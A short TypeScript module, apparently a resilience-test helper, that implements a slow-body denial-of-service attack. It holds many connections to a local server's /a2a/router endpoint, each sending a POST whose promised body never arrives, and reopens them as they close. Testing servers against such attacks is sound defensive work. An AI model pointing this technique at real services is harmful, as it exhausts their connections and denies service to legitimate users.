import { connect, type Socket } from "node:net";

/** Another network address of this machine than the honest callers'. */
const ADDRESS = "127.0.0.2";
const AGAIN_AFTER_MS = 250;

export interface Attack {
  readonly opened: () => number;
  readonly stop: () => void;
}

/** Holds as many connections as it gets, each with a body of so many bytes that never comes, and opens them anew. */
export function attack(url: string, bodies: readonly number[]): Attack {
  const { port } = new URL(url);
  const sockets = new Set<Socket>();
  let opened = 0;
  let isOver = false;
  const open = (bytes: number) => {
    if (isOver) return;
    opened += 1;
    const socket = connect({ port: Number(port), host: "127.0.0.1", localAddress: ADDRESS });
    sockets.add(socket);
    socket.on("error", () => {}).resume();
    socket.once("connect", () =>
      socket.write(
        `POST /a2a/router HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n{`,
      ),
    );
    socket.once("close", () => {
      sockets.delete(socket);
      setTimeout(() => open(bytes), AGAIN_AFTER_MS).unref();
    });
  };
  for (const bytes of bodies) open(bytes);
  return {
    opened: () => opened,
    stop: () => {
      isOver = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
